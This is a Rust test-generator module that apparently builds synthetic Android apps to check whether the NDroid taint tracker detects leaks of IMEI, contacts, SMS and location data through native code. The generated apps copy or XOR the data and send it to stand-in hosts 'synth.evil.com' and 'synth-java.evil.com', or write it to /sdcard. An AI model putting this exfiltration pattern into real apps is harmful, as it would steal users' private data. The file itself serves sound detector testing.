//! Synthetic flow generator: builds random-but-valid apps from a
//! [`FlowSpec`] with known ground truth, so property tests can assert
//! the system-level soundness/precision contract:
//!
//! * **soundness** — if the spec routes sensitive data to a sink
//!   through any chain of explicit transformations, NDroid detects it;
//! * **precision** — if the spec routes only clean data to the sink
//!   (the sensitive value is read but discarded), nobody flags it.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::{Assembler, Cond, Reg};
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind, Taint};
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// Which framework source feeds the flow.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Source {
    /// `TelephonyManager.getDeviceId()` (IMEI).
    Imei,
    /// `ContactsProvider.queryName()`.
    Contact,
    /// `SmsProvider.queryLastMessage()`.
    Sms,
    /// `LocationManager.getLastKnownLocation()`.
    Location,
}

impl Source {
    /// The method implementing this source.
    pub fn method(self) -> (&'static str, &'static str) {
        match self {
            Source::Imei => ("Landroid/telephony/TelephonyManager;", "getDeviceId"),
            Source::Contact => ("Landroid/provider/ContactsProvider;", "queryName"),
            Source::Sms => ("Landroid/provider/SmsProvider;", "queryLastMessage"),
            Source::Location => ("Landroid/location/LocationManager;", "getLastKnownLocation"),
        }
    }

    /// The taint label this source produces.
    pub fn taint(self) -> Taint {
        match self {
            Source::Imei => Taint::IMEI,
            Source::Contact => Taint::CONTACTS,
            Source::Sms => Taint::SMS,
            Source::Location => Taint::LOCATION_LAST,
        }
    }
}

/// A native-side transformation hop applied to the buffer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Hop {
    /// `strcpy` into a fresh buffer.
    Strcpy,
    /// `memcpy` of 64 bytes into a fresh buffer.
    Memcpy,
    /// Byte-wise XOR with a constant, instruction-traced.
    XorLoop,
    /// `sprintf(dst, "v=%s", src)`.
    Sprintf,
    /// `strdup` into the native heap.
    Strdup,
}

/// A μDep-style mutation applied to the final buffer before the sink:
/// each variant either *preserves* the data dependence on the
/// sensitive source (the taint must survive) or *kills* it (the bytes
/// reaching the sink carry no sensitive data, so flagging them would
/// be a false positive).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mutation {
    /// Byte-wise XOR with `0x29` — taint-preserving (Table V EOR rule).
    Xor29,
    /// Byte-order reversal via `strlen`-indexed stores —
    /// taint-preserving byte movement.
    Reverse,
    /// Overwrite with a constant stamp string, ignoring the input —
    /// taint-killing (the data dependence is severed).
    ConstStamp,
    /// Read every input byte but store only constants (the output
    /// depends on the input through *control flow* alone) —
    /// taint-killing for an explicit-flow tracker like NDroid.
    ImplicitOnly,
}

impl Mutation {
    /// Whether this mutation severs the data dependence on the source
    /// (ground truth flips to "no leak" once one appears in the chain).
    pub fn kills_taint(self) -> bool {
        matches!(self, Mutation::ConstStamp | Mutation::ImplicitOnly)
    }

    /// Stable lowercase tag used in corpus labels.
    pub fn tag(self) -> &'static str {
        match self {
            Mutation::Xor29 => "xor29",
            Mutation::Reverse => "reverse",
            Mutation::ConstStamp => "const-stamp",
            Mutation::ImplicitOnly => "implicit-only",
        }
    }
}

/// Where the flow terminates.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Sink {
    /// Native `send(2)` after `connect`.
    NativeSend,
    /// Native `fprintf` to a file.
    NativeFile,
    /// Back to Java via `NewStringUTF`, then `Socket.send`.
    JavaSend,
}

/// A complete flow description.
#[derive(Debug, Clone)]
pub struct FlowSpec {
    /// The source to read.
    pub source: Source,
    /// Native transformations, applied in order.
    pub hops: Vec<Hop>,
    /// The terminal sink.
    pub sink: Sink,
    /// When `false`, the sensitive buffer is abandoned and a constant
    /// string goes to the sink instead (ground truth: no leak).
    pub leak: bool,
    /// μDep-style mutations applied after the hops, in order, each
    /// into a fresh buffer. A taint-killing mutation anywhere in the
    /// chain makes the payload clean from that point on.
    pub mutations: Vec<Mutation>,
}

impl FlowSpec {
    /// The spec's ground truth: does the payload that reaches the sink
    /// carry sensitive data? `leak` routes the sensitive buffer to the
    /// sink, but any taint-killing mutation severs the dependence —
    /// preserving mutations never resurrect it.
    pub fn expected_leak(&self) -> bool {
        self.leak && !self.mutations.iter().any(|m| m.kills_taint())
    }

    /// Returns the spec with `mutations` appended.
    #[must_use]
    pub fn with_mutations(mut self, mutations: &[Mutation]) -> FlowSpec {
        self.mutations.extend_from_slice(mutations);
        self
    }
}

/// Emits a byte-wise `dst[i] = src[i] ^ key` loop terminated by the
/// source NUL (which is also copied, XORed, as the terminator slot).
fn emit_xor_loop(asm: &mut Assembler, src: u32, dst: u32, key: u32) {
    asm.ldr_const(Reg::R4, src);
    asm.ldr_const(Reg::R5, dst);
    asm.mov_imm(Reg::R6, 0).unwrap();
    let top = asm.here_label();
    asm.ldrb_reg(Reg::R0, Reg::R4, Reg::R6);
    asm.cmp_imm(Reg::R0, 0).unwrap();
    let done = asm.label();
    asm.b_cond(Cond::Eq, done);
    asm.eor_imm(Reg::R0, Reg::R0, key).unwrap();
    asm.strb_reg(Reg::R0, Reg::R5, Reg::R6);
    asm.add_imm(Reg::R6, Reg::R6, 1).unwrap();
    asm.b(top);
    asm.bind(done).unwrap();
    asm.strb_reg(Reg::R0, Reg::R5, Reg::R6); // NUL
}

/// Builds an app realizing `spec`. The native method signature is
/// `String run(String data)` (the return feeds the Java sink when
/// [`Sink::JavaSend`]).
pub fn build(spec: &FlowSpec) -> App {
    let mut b = AppBuilder::new("synth-flow", "generated flow");
    let c = b.class("Lapp/Synth;");
    let dest = b.data_cstr("synth.evil.com");
    let path = b.data_cstr("/sdcard/synth.out");
    let mode_w = b.data_cstr("w");
    let fmt_s = b.data_cstr("v=%s");
    let fmt_file = b.data_cstr("%s");
    let decoy = b.data_cstr("decoy-payload");
    let stamp = b.data_cstr("stamped-const");
    // One buffer per hop and per mutation (plus the initial one).
    let buffers: Vec<u32> = (0..=spec.hops.len() + spec.mutations.len())
        .map(|_| b.data_buffer(128))
        .collect();

    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::LR]));
    // chars = GetStringUTFChars(data, 0); strcpy(buffers[0], chars)
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.ldr_const(Reg::R0, buffers[0]);
    b.asm.call_abs(libc_addr("strcpy"));
    // Apply hops.
    for (i, hop) in spec.hops.iter().enumerate() {
        let (src, dst) = (buffers[i], buffers[i + 1]);
        match hop {
            Hop::Strcpy => {
                b.asm.ldr_const(Reg::R0, dst);
                b.asm.ldr_const(Reg::R1, src);
                b.asm.call_abs(libc_addr("strcpy"));
            }
            Hop::Memcpy => {
                b.asm.ldr_const(Reg::R0, dst);
                b.asm.ldr_const(Reg::R1, src);
                b.asm.mov_imm(Reg::R2, 64).unwrap();
                b.asm.call_abs(libc_addr("memcpy"));
            }
            Hop::XorLoop => emit_xor_loop(&mut b.asm, src, dst, 0x13),
            Hop::Sprintf => {
                b.asm.ldr_const(Reg::R0, dst);
                b.asm.ldr_const(Reg::R1, fmt_s);
                b.asm.ldr_const(Reg::R2, src);
                b.asm.call_abs(libc_addr("sprintf"));
            }
            Hop::Strdup => {
                b.asm.ldr_const(Reg::R0, src);
                b.asm.call_abs(libc_addr("strdup"));
                // Copy the duplicate into dst so the chain continues
                // through a heap round-trip.
                b.asm.mov(Reg::R1, Reg::R0);
                b.asm.ldr_const(Reg::R0, dst);
                b.asm.call_abs(libc_addr("strcpy"));
            }
        }
    }
    // Apply μDep-style mutations, each into its own fresh buffer.
    for (j, mutation) in spec.mutations.iter().enumerate() {
        let (src, dst) = (
            buffers[spec.hops.len() + j],
            buffers[spec.hops.len() + j + 1],
        );
        match mutation {
            Mutation::Xor29 => emit_xor_loop(&mut b.asm, src, dst, 0x29),
            Mutation::Reverse => {
                // dst[len-1-i] = src[i]: pure byte movement, every
                // output byte data-depends on an input byte.
                b.asm.ldr_const(Reg::R0, src);
                b.asm.call_abs(libc_addr("strlen"));
                b.asm.mov(Reg::R7, Reg::R0);
                b.asm.ldr_const(Reg::R4, src);
                b.asm.ldr_const(Reg::R5, dst);
                b.asm.mov_imm(Reg::R6, 0).unwrap();
                b.asm.cmp_imm(Reg::R7, 0).unwrap();
                let done = b.asm.label();
                b.asm.b_cond(Cond::Eq, done);
                let top = b.asm.here_label();
                b.asm.sub(Reg::R2, Reg::R7, Reg::R6);
                b.asm.sub_imm(Reg::R2, Reg::R2, 1).unwrap();
                b.asm.ldrb_reg(Reg::R0, Reg::R4, Reg::R6);
                b.asm.strb_reg(Reg::R0, Reg::R5, Reg::R2);
                b.asm.add_imm(Reg::R6, Reg::R6, 1).unwrap();
                b.asm.cmp(Reg::R6, Reg::R7);
                b.asm.b_cond(Cond::Ne, top);
                b.asm.bind(done).unwrap();
                b.asm.mov_imm(Reg::R0, 0).unwrap();
                b.asm.strb_reg(Reg::R0, Reg::R5, Reg::R7); // NUL
            }
            Mutation::ConstStamp => {
                // The input buffer is never read again: the stamp
                // severs the data dependence entirely.
                b.asm.ldr_const(Reg::R0, dst);
                b.asm.ldr_const(Reg::R1, stamp);
                b.asm.call_abs(libc_addr("strcpy"));
            }
            Mutation::ImplicitOnly => {
                // Read every tainted byte but store only the constant
                // 0x23: the output depends on the input through control
                // flow alone (loop trip count), which an explicit-flow
                // tracker must NOT flag.
                b.asm.ldr_const(Reg::R4, src);
                b.asm.ldr_const(Reg::R5, dst);
                b.asm.mov_imm(Reg::R6, 0).unwrap();
                let top = b.asm.here_label();
                b.asm.ldrb_reg(Reg::R0, Reg::R4, Reg::R6);
                b.asm.cmp_imm(Reg::R0, 0).unwrap();
                let done = b.asm.label();
                b.asm.b_cond(Cond::Eq, done);
                b.asm.mov_imm(Reg::R0, 0x23).unwrap();
                b.asm.strb_reg(Reg::R0, Reg::R5, Reg::R6);
                b.asm.add_imm(Reg::R6, Reg::R6, 1).unwrap();
                b.asm.b(top);
                b.asm.bind(done).unwrap();
                b.asm.mov_imm(Reg::R0, 0).unwrap();
                b.asm.strb_reg(Reg::R0, Reg::R5, Reg::R6); // NUL
            }
        }
    }
    // Select the payload: the transformed buffer or the clean decoy.
    let payload = if spec.leak {
        *buffers.last().unwrap()
    } else {
        decoy
    };
    match spec.sink {
        Sink::NativeSend => {
            b.asm.call_abs(libc_addr("socket"));
            b.asm.mov(Reg::R7, Reg::R0);
            b.asm.ldr_const(Reg::R1, dest);
            b.asm.call_abs(libc_addr("connect"));
            b.asm.ldr_const(Reg::R0, payload);
            b.asm.call_abs(libc_addr("strlen"));
            b.asm.mov(Reg::R2, Reg::R0);
            b.asm.mov(Reg::R0, Reg::R7);
            b.asm.ldr_const(Reg::R1, payload);
            b.asm.mov_imm(Reg::R3, 0).unwrap();
            b.asm.call_abs(libc_addr("send"));
            b.asm.mov_imm(Reg::R0, 0).unwrap();
        }
        Sink::NativeFile => {
            b.asm.ldr_const(Reg::R0, path);
            b.asm.ldr_const(Reg::R1, mode_w);
            b.asm.call_abs(libc_addr("fopen"));
            b.asm.mov(Reg::R7, Reg::R0);
            b.asm.ldr_const(Reg::R1, fmt_file);
            b.asm.ldr_const(Reg::R2, payload);
            b.asm.call_abs(libc_addr("fprintf"));
            b.asm.mov(Reg::R0, Reg::R7);
            b.asm.call_abs(libc_addr("fclose"));
            b.asm.mov_imm(Reg::R0, 0).unwrap();
        }
        Sink::JavaSend => {
            // Return NewStringUTF(payload); the Java side sends it.
            b.asm.ldr_const(Reg::R0, payload);
            b.asm.call_abs(dvm_addr("NewStringUTF"));
        }
    }
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::PC]));
    let native = b.native_method(c, "run", "LL", true, entry);

    let (src_cls, src_m) = spec.source.method();
    let source = b.program.find_method_by_name(src_cls, src_m).unwrap();
    let send = b
        .program
        .find_method_by_name("Ljava/net/Socket;", "send")
        .unwrap();
    let dest_str = b.string_const("synth-java.evil.com");
    let mut code = vec![
        DexInsn::Invoke {
            kind: InvokeKind::Static,
            method: source,
            args: vec![],
        },
        DexInsn::MoveResult { dst: 0 },
        DexInsn::Invoke {
            kind: InvokeKind::Static,
            method: native,
            args: vec![0],
        },
        DexInsn::MoveResult { dst: 0 },
    ];
    if spec.sink == Sink::JavaSend {
        code.push(DexInsn::ConstString {
            dst: 1,
            index: dest_str,
        });
        code.push(DexInsn::Invoke {
            kind: InvokeKind::Static,
            method: send,
            args: vec![1, 0],
        });
    }
    code.push(DexInsn::ReturnVoid);
    b.method(
        c,
        MethodDef::new("main", "V", MethodKind::Bytecode(code)).with_registers(2),
    );
    b.finish("Lapp/Synth;", "main").unwrap()
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;

    #[test]
    fn minimal_specs_behave() {
        for sink in [Sink::NativeSend, Sink::NativeFile, Sink::JavaSend] {
            let spec = FlowSpec {
                source: Source::Sms,
                hops: vec![Hop::Memcpy],
                sink,
                leak: true,
                mutations: vec![],
            };
            let sys = build(&spec).run(Mode::NDroid).unwrap();
            assert_eq!(sys.leaks().len(), 1, "{sink:?}");
            assert!(sys.leaks()[0].taint.contains(Taint::SMS));
        }
    }

    #[test]
    fn decoy_specs_are_clean() {
        let spec = FlowSpec {
            source: Source::Imei,
            hops: vec![Hop::Strcpy, Hop::XorLoop],
            sink: Sink::NativeSend,
            leak: false,
            mutations: vec![],
        };
        let sys = build(&spec).run(Mode::NDroid).unwrap();
        assert!(sys.leaks().is_empty());
        assert_eq!(sys.report().network_log.len(), 1, "decoy was sent");
    }

    #[test]
    fn preserving_mutations_keep_the_leak() {
        for mutation in [Mutation::Xor29, Mutation::Reverse] {
            let spec = FlowSpec {
                source: Source::Contact,
                hops: vec![Hop::Strcpy],
                sink: Sink::NativeSend,
                leak: true,
                mutations: vec![mutation],
            };
            assert!(spec.expected_leak());
            let sys = build(&spec).run(Mode::NDroid).unwrap();
            assert_eq!(sys.leaks().len(), 1, "{mutation:?}");
            assert!(sys.leaks()[0].taint.contains(Taint::CONTACTS));
        }
    }

    #[test]
    fn killing_mutations_flip_ground_truth_and_stay_clean() {
        for mutation in [Mutation::ConstStamp, Mutation::ImplicitOnly] {
            let spec = FlowSpec {
                source: Source::Contact,
                hops: vec![Hop::Strcpy],
                sink: Sink::NativeSend,
                leak: true,
                mutations: vec![mutation],
            };
            assert!(!spec.expected_leak());
            let sys = build(&spec).run(Mode::NDroid).unwrap();
            assert!(sys.leaks().is_empty(), "{mutation:?} must not be flagged");
            assert_eq!(sys.report().network_log.len(), 1, "payload was sent");
        }
    }

    #[test]
    fn killing_mutation_followed_by_preserving_stays_clean() {
        // A preserving mutation must never resurrect a severed flow.
        let spec = FlowSpec {
            source: Source::Imei,
            hops: vec![],
            sink: Sink::NativeSend,
            leak: true,
            mutations: vec![Mutation::ConstStamp, Mutation::Xor29],
        };
        assert!(!spec.expected_leak());
        let sys = build(&spec).run(Mode::NDroid).unwrap();
        assert!(sys.leaks().is_empty());
    }
}
